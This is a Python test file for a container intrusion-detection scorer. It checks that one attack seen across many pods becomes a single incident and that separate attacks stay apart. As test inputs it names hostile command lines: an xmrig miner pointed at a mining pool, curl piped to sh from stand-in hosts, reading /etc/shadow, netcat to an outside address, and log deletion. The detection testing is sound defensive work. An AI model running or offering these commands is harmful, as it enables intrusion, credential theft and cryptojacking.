# SPDX-License-Identifier: Apache-2.0
"""The same attack in many containers is one incident; two attacks stay two."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scorer_making import TS, anomaly, judged

from habitus.anomalies import Anomaly
from habitus_scorer.alerting import alert_of
from habitus_scorer.incident import CONTAINERS, KEPT, Incident
from habitus_scorer.incidents import IncidentBook

MINER = ["./xmrig", "-o", "pool.minexmr.com:4444"]


JOB = {"parent_age": 1, "ancestors": ["sh", "cron"]}


def inside(number: int, argv: list[str] | None = None, **parts) -> Anomaly:
    """An anomaly in replica `number` of the workload."""
    pod = {"name": f"web-{number}", "namespace": "shop", "uid": f"uid-{number}"}
    container = {"id": f"{number:064x}", "pod": pod, **parts.pop("container", {})}
    pid = parts.setdefault("pid", 41)
    parts.setdefault("id", f"e{number}-{pid}-{parts.get('op', 'exec')}")
    return anomaly(argv or MINER, container=container, **parts)


@pytest.fixture
def book() -> IncidentBook:
    return IncidentBook(cooldown_s=3600)


def test_one_attack_in_thirty_pods_is_one_incident_that_lists_them(book: IncidentBook):
    """Each Pod has its own pids and its own numbers in the arguments."""
    deeds = [
        book.fold(judged(inside(number, [*MINER, "--rig-id", str(number)], pid=40 + number)))
        for number in range(30)
    ]
    [incident] = book
    assert {one.id for one in deeds} == {incident.id}
    summary = alert_of(incident, incident.best.anomaly, TS).summary
    assert [where.pod for where in summary.containers] == [f"web-{number}" for number in range(30)]
    assert (summary.container_count, summary.deeds, len(summary.timeline)) == (30, 1, 30)


def test_what_the_attack_does_next_in_each_pod_joins_it(book: IncidentBook):
    """Children are found by their own container's process ids, though no other Pod did the like."""
    for number in range(3):
        book.fold(judged(inside(number, pid=41)))
        name = ["wget", "http://203.0.113.9/" + "abc"[number]]
        book.fold(judged(inside(number, name, pid=60, ppid=41), points=20))
    assert len(book) == 1


@pytest.mark.parametrize(
    ("one", "other"),
    [
        (["sh", "-c", "curl http://a.example/x | sh"], ["sh", "-c", "cat /etc/shadow"]),
        (["nc", "203.0.113.7", "4444"], ["nc", "198.51.100.2", "4444"]),
        (["sh", "-c", "id"], ["sh", "-c", "id; id"]),
        (["sh", "-c", "base64 x"], ["sh", "-c", "base32 x"]),
    ],
)
def test_two_attacks_in_two_pods_stay_two(book: IncidentBook, one: list[str], other: list[str]):
    """The same program on the same path: what it was told to do tells them apart."""
    path = ["webapp:v1", "node", one[0]]
    first = book.fold(judged(inside(1, one, path=path, reason="novel-slot")))
    second = book.fold(judged(inside(2, other, path=path, reason="novel-slot")))
    assert first is not second


def test_another_image_is_another_incident(book: IncidentBook):
    """Its profile, its owner and what mends it are others, though the deed looks the same."""
    book.fold(judged(inside(1)))
    book.fold(judged(inside(2, container={"image": "shop:v3"})))
    assert len(book) == 2


def test_a_faint_deed_that_all_pods_share_is_no_bridge_between_two_attacks(book: IncidentBook):
    """The servers of two Pods each read a new file (a release); then each is attacked in its own way."""
    read = {"class_": "file", "op": "open", "file": {"path": "/app/new"}, "path": ["webapp:v1", "new"]}
    drift = [book.fold(judged(inside(number, pid=7, **read), points=0)) for number in (1, 2, 3)]
    assert len({one.id for one in drift}) == 1
    stole = {"class_": "file", "op": "open", "path": ["webapp:v1", "token"]}
    first = book.fold(judged(inside(1, pid=7, id="s1", file={"path": "/token"}, **stole)))
    stole["path"] = ["webapp:v1", "shadow"]
    second = book.fold(judged(inside(2, pid=7, id="s2", file={"path": "/etc/shadow"}, **stole)))
    assert len({drift[0].id, first.id, second.id}) == 3
    assert not drift[0].weighs


def test_a_faint_deed_accuses_no_other_container(book: IncidentBook):
    """What is a step of an attack in one Pod is, alone in another Pod, not that attack."""
    read = {"class_": "file", "op": "open", "file": {"path": "/app/new"}, "path": ["webapp:v1", "new"]}
    attack = book.fold(judged(inside(1, pid=41)))
    assert book.fold(judged(inside(1, pid=41, **read), points=0)) is attack
    assert book.fold(judged(inside(2, pid=7, **read), points=0)) is not attack
    assert list(attack.containers) == [f"{1:064x}"]


def test_a_faint_beginning_of_its_own_does_not_split_the_attack(book: IncidentBook):
    """Each Pod was entered by another upload; the miner that came out of it is the same."""
    for number, name in enumerate("abc"):
        drop = {"class_": "file", "op": "create", "file": {"path": f"/tmp/{name}"}, "path": ["w", name]}
        book.fold(judged(inside(number, pid=80, **drop), points=0))
        book.fold(judged(inside(number, pid=80)))
    [attack] = [one for one in book if one.weighs]
    assert len(attack.containers) == 3
    assert len(book) == 3  # two beginnings stay by themselves; nobody is told of them


def test_across_can_be_switched_off():
    """An alert for each container, where somebody wants that."""
    book = IncidentBook(cooldown_s=3600, across=False)
    for number in range(3):
        book.fold(judged(inside(number)))
    assert len(book) == 3


def test_a_grandchild_joins_though_its_parent_did_nothing_unusual(book: IncidentBook):
    """xmrig (41) → sh (42, known) → id (43): the chain of names leads to who was never seen there."""
    miner = anomaly(pid=41, ppid=7)
    miner.event.process.ancestors = ["bash", "tini"]
    root = book.fold(judged(miner))
    late = anomaly(["id"], pid=43, ppid=42)
    late.event.process.ancestors = ["sh", "xmrig", "bash", "tini"]
    assert book.fold(judged(late, points=0)) is root


def test_a_chain_of_names_that_the_image_knows_leads_nowhere(book: IncidentBook):
    """sh below node is ordinary; only its arguments were strange: another sh's child is no relation."""
    first = anomaly(["sh", "-c", "x"], pid=41, reason="novel-slot")
    first.event.process.ancestors = ["node", "tini"]
    book.fold(judged(first))
    other = anomaly(["id"], pid=93, ppid=92)
    other.event.process.ancestors = ["env", "sh", "node", "tini"]
    book.fold(judged(other, points=0))
    assert len(book) == 2


def test_a_person_is_told_of_containers_and_deeds_by_growth_alone(book: IncidentBook):
    """Known repeats are no growth; another Pod or another deed is."""
    incident = book.fold(judged(inside(1)))
    incident.tell(alert_of(incident, incident.best.anomaly, TS))
    assert not book.fold(judged(inside(1, id="again"))).grown
    assert book.fold(judged(inside(2))).grown
    incident.tell(alert_of(incident, incident.best.anomaly, TS))
    assert not incident.grown
    assert book.fold(judged(inside(2, ["id"], pid=50, ppid=41), points=0)).grown


def test_many_repeats_leave_room_for_what_is_new(book: IncidentBook):
    """A hundred restarts fill what is kept; the next deeds are kept all the same."""
    for number in range(100):
        incident = book.fold(judged(inside(1, pid=41, id=f"r{number}")))
    for number, name in enumerate("abcde"):
        book.fold(judged(inside(1, [name], pid=50 + number, ppid=41), points=0))
    names = {kept.anomaly.event.process_name for kept in incident.kept}
    assert names == {"xmrig", *"abcde"}
    assert (len(incident.kept), incident.omitted) == (KEPT, 105 - KEPT)


def test_containers_are_bounded(book: IncidentBook):
    """A worm in more containers than are told apart: counted no further, folded all the same."""
    for number in range(CONTAINERS + 50):
        incident = book.fold(judged(inside(number)))
    assert len(incident.containers) == CONTAINERS
    assert incident.count == CONTAINERS + 50
    assert len(alert_of(incident, incident.best.anomaly, TS).summary.containers) == 50


def test_links_are_bounded_over_all_incidents(book: IncidentBook, monkeypatch: pytest.MonkeyPatch):
    """Many incidents of many processes: the least recently touched leave."""
    monkeypatch.setattr("habitus_scorer.incidents._LINKS_IN_ALL", 1000)
    for number in range(40):
        for child in range(100):
            name = [f"./{chr(97 + number % 26)}{chr(97 + number // 26)}"]
            book.fold(judged(inside(number, name, pid=41 + child, ppid=40 + child, **JOB)))
    assert all(len(links) for links in book._links if links is not book._by_chain)
    assert sum(map(len, book._links)) + book._reached <= 1000
    assert book._kept == sum(len(one.kept) for one in book)
    assert book._reached == sum(len(one.containers) for one in book)


STEPS = st.lists(
    st.tuples(
        st.integers(0, 4),  # the container
        st.sampled_from(["xmrig", "sh", "id", "curl"]),
        st.integers(1, 12),  # the process
        st.integers(0, 12),  # its parent
        st.sampled_from([0, 8, 20, 40]),  # the points
        st.sampled_from([1, 59, 3600]),  # the parent's age
    ),
    max_size=40,
)


def folded(book: IncidentBook, steps) -> list[Incident]:
    return [book.fold(judged(stepped(at, step), points=step[4])) for at, step in enumerate(steps)]


def stepped(at: int, step: tuple[int, str, int, int, int, int]) -> Anomaly:
    where, name, pid, ppid, _, age = step
    return inside(where, [name], pid=pid, ppid=ppid, id=f"e{at}", seconds=at, **JOB | {"parent_age": age})


@settings(max_examples=60, deadline=None)
@given(STEPS)
def test_the_same_anomalies_give_the_same_incidents_and_nothing_is_lost(steps):
    """Every anomaly is counted in exactly one incident; ids depend on nothing but the anomalies."""
    first, second = IncidentBook(3600), IncidentBook(3600)
    ids = [one.id for one in folded(first, steps)]
    assert ids == [one.id for one in folded(second, steps)]
    assert sum(one.count for one in first) == len(steps)
    assert {one.id for one in first} == set(ids)
    for one in first:
        assert sum(seen.count for seen in one.containers.values()) == one.count


@settings(max_examples=60, deadline=None)
@given(STEPS, st.integers(0, 40))
def test_a_book_that_is_restored_goes_on_as_the_one_that_was_lost(steps, cut):
    """Restart at any moment: the restored book folds what comes next as the old one would have."""
    lost, restored = IncidentBook(3600), IncidentBook(3600)
    before = folded(lost, steps[:cut])
    for at, (step, incident) in enumerate(zip(steps, before, strict=False)):
        restored.restore(judged(stepped(at, step), points=step[4]), incident.id)
    assert [one.id for one in folded(lost, steps)] == [one.id for one in folded(restored, steps)]
    assert [(one.id, one.count, one.best.score) for one in lost] == [
        (one.id, one.count, one.best.score) for one in restored
    ]


@settings(max_examples=40, deadline=None)
@given(st.integers(2, 12), st.randoms(use_true_random=False))
def test_in_whatever_order_the_pods_come_one_attack_is_one_incident(pods: int, chance: random.Random):
    """Three strong steps a Pod, in order within the Pod and in any order between Pods."""
    steps = [["sh", "-c", "curl a.example|sh"], MINER, ["sh", "-c", "rm /var/log/x"]]
    queue = [number for number in range(pods) for _ in steps]
    chance.shuffle(queue)
    at: dict[int, int] = {}
    book = IncidentBook(3600)
    for number in queue:
        step = at[number] = at.get(number, -1) + 1
        book.fold(judged(inside(number, steps[step], pid=41 + step, ppid=40 + step)))
    [incident] = book
    assert (incident.count, len(incident.containers)) == (3 * pods, pods)


def test_an_alert_that_is_out_takes_the_rest_of_its_attack_after_a_restart(book: IncidentBook):
    """The alert was stored, none of its scores was; the anomalies come again in another order."""
    incident = book.fold(judged(inside(1)))
    alert = alert_of(incident, incident.best.anomaly, TS)
    later = IncidentBook(3600)
    later.restore_alert(alert)
    second = later.fold(judged(inside(2)))
    assert (second.id, second.revision, second.raised) == (incident.id, 1, alert.severity)
    assert later.fold(judged(inside(1))) is second
